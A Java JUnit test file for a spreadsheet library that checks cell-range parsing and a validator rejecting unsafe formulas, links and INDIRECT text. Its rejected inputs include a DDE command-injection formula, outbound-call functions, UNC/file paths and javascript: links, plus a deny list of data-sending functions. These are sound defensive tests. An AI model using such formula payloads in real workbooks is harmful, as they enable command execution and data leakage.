package dev.sheetsmith.domain;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CellRangeAndFormulasTest {

    @Test
    void a1FormsParse() {
        assertThat(CellRange.parse("A1:D20")).isEqualTo(new CellRange(0, 0, 19, 3));
        assertThat(CellRange.parse("d20:a1")).isEqualTo(new CellRange(0, 0, 19, 3));
        assertThat(CellRange.parse("$B$2")).isEqualTo(new CellRange(1, 1, 1, 1));
        assertThat(CellRange.parse("B:B")).isEqualTo(new CellRange(0, 1, CellRange.MAX_ROW, 1));
        assertThat(CellRange.parse("2:3")).isEqualTo(new CellRange(1, 0, 2, CellRange.MAX_COLUMN));
        assertThat(CellRange.parse("XFD1048576").toA1()).isEqualTo("XFD1048576");
        assertThat(CellRange.parse("A1:C3").intersect(CellRange.parse("B2:D4"))).isEqualTo(CellRange.parse("B2:C3"));
        assertThat(CellRange.parse("A1").intersect(CellRange.parse("B2"))).isNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "A0", "A1048577", "XFE1", "hello", "A1:", "1A", "A1:B2:C3"})
    void badRangesAreRefusedWithTheRangeNamed(String a1) {
        assertThatThrownBy(() -> CellRange.parse(a1)).isInstanceOf(InvalidInputException.class);
    }

    @Test
    void aSingleCellMustBeOne() {
        assertThatThrownBy(() -> CellRange.cell("A1:B2")).hasMessageContaining("single cell");
    }

    @ParameterizedTest
    @ValueSource(strings = {"=WEBSERVICE(\"http://x\")", "=webservice(A1)", "=FILTERXML(A1,\"//a\")", "=RTD(\"x\",,\"y\")",
        "=CALL(\"user32\",\"MessageBoxA\")", "=REGISTER.ID(\"a\",\"b\")", "=cmd|' /C calc'!A0", "=[Book1.xlsx]Sheet1!A1",
        "='C:\\data\\[b.xlsx]S'!A1", "=_xlfn.WEBSERVICE(A1)", "=SUM(\\\\server\\share)"})
    void formulasThatReachOutsideAreRefused(String formula) {
        assertThatThrownBy(() -> Formulas.requireSafe(formula, "cell A1")).isInstanceOf(InvalidInputException.class)
                .hasMessageStartingWith("cell A1:");
    }

    @Test
    void ordinaryFormulasPassEvenWithForbiddenWordsInText() {
        assertThat(Formulas.requireSafe("=SUM(A1:A3)", "x").expression()).isEqualTo("SUM(A1:A3)");
        assertThat(Formulas.requireSafe("=CONCAT(\"WEBSERVICE(\", \"a|b\")", "x").expression()).contains("CONCAT");
        assertThat(Formulas.requireSafe("=Sheet2!B2*2", "x").expression()).isEqualTo("Sheet2!B2*2");
        assertThatThrownBy(() -> Formulas.requireSafe("=", "x")).hasMessageContaining("not a formula");
    }

    @ParameterizedTest
    @ValueSource(strings = {"IMAGE", "_xlfn.IMAGE", "image", "STOCKHISTORY", "_xlfn.TRANSLATE", "DETECTLANGUAGE",
        "COPILOT", "_xlfn._xlws.PY", "SQL.REQUEST", "WEBSERVICE"})
    void functionsThatSendDataOutAreRefusedByName(String name) {
        assertThatThrownBy(() -> Formulas.requireSafeFunction(name, "sheet 'S', cell A1"))
                .isInstanceOf(InvalidInputException.class).hasMessageStartingWith("sheet 'S', cell A1: ")
                .hasMessageContaining("() is not allowed");
        assertThatThrownBy(() -> Formulas.requireSafe("=" + name + "(\"http://x/\"&A1)", "cell A1"))
                .isInstanceOf(InvalidInputException.class);
    }

    @Test
    void theWordImageInsideTextIsNoCall() {
        assertThat(Formulas.requireSafe("=\"IMAGE(\"&A1", "x").expression()).isEqualTo("\"IMAGE(\"&A1");
        Formulas.requireSafeFunction("IMAGES", "x");
        Formulas.requireSafeFunction("HYPERLINK", "x");
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://example.com/a?b=1", "http://intranet/x", "HTTPS://EXAMPLE.COM", "mailto:a@b.org",
        "#Sheet2!A1", "#'My Sheet'!B2", " https://example.com"})
    void linksToTheWebMailOrThisWorkbookAreAllowed(String target) {
        Formulas.requireSafeLink(target, "x");
        assertThat(Formulas.isSafeLinkStart(target)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"file:///C:/secret.txt", "FILE://server/share", "\\\\host\\share\\doc.xlsx",
        "//host/share", "C:\\Users\\me\\a.xlsx", "javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,x",
        "vbscript:x", "ftp://x", "other.xlsx", "#[other.xlsx]Sheet1!A1", "#'C:\\x\\[a.xlsx]S'!A1", ""})
    void linksAnywhereElseAreRefused(String target) {
        assertThatThrownBy(() -> Formulas.requireSafeLink(target, "sheet 'S', cell C3"))
                .isInstanceOf(InvalidInputException.class).hasMessageStartingWith("sheet 'S', cell C3: ");
    }

    @Test
    void aComputedLinkMayOnlyStartWithAWholeSafeScheme() {
        assertThat(Formulas.isSafeLinkStart("https://example.com/?q=")).isTrue();
        assertThat(Formulas.isSafeLinkStart("#")).isTrue();
        assertThat(Formulas.isSafeLinkStart("http")).isFalse();
        assertThat(Formulas.isSafeLinkStart("fi")).isFalse();
        assertThat(Formulas.isSafeLinkStart("\\\\")).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"A1", "Sheet2!B3", "'My Sheet'!A1:B2", "R1C1", "Table1[Amount]", "Rate", "A"})
    void textForIndirectWithinTheWorkbookIsAllowed(String text) {
        Formulas.requireSafeReferenceText(text, "x");
    }

    @ParameterizedTest
    @ValueSource(strings = {"[other.xlsx]Sheet1!A1", "'[other.xlsx]Sheet1'!A1", "'C:\\x\\[a.xlsx]S'!A1",
        "\\\\host\\share\\[a.xlsx]S!A1", "le://", "https://x/[a.xlsx]S!A1", "=[1]S!A1", "cmd|'/c calc'!A0", "["})
    void textForIndirectNamingAnotherWorkbookOrFileIsRefused(String text) {
        assertThatThrownBy(() -> Formulas.requireSafeReferenceText(text, "sheet 'S', cell D4"))
                .isInstanceOf(InvalidInputException.class)
                .hasMessageStartingWith("sheet 'S', cell D4: the text '")
                .hasMessageContaining("another workbook or a file");
    }

    @Test
    void cellValuesDisplayAndRefuseNonFiniteNumbers() {
        assertThat(new CellValue.Number(3).display()).isEqualTo("3");
        assertThat(new CellValue.Number(2.5).display()).isEqualTo("2.5");
        assertThat(new CellValue.Bool(true).display()).isEqualTo("TRUE");
        assertThat(new CellValue.Formula("A1").display()).isEqualTo("=A1");
        assertThat(CellValue.EMPTY.display()).isEmpty();
        assertThatThrownBy(() -> new CellValue.Number(Double.NaN)).isInstanceOf(IllegalArgumentException.class);
    }
}
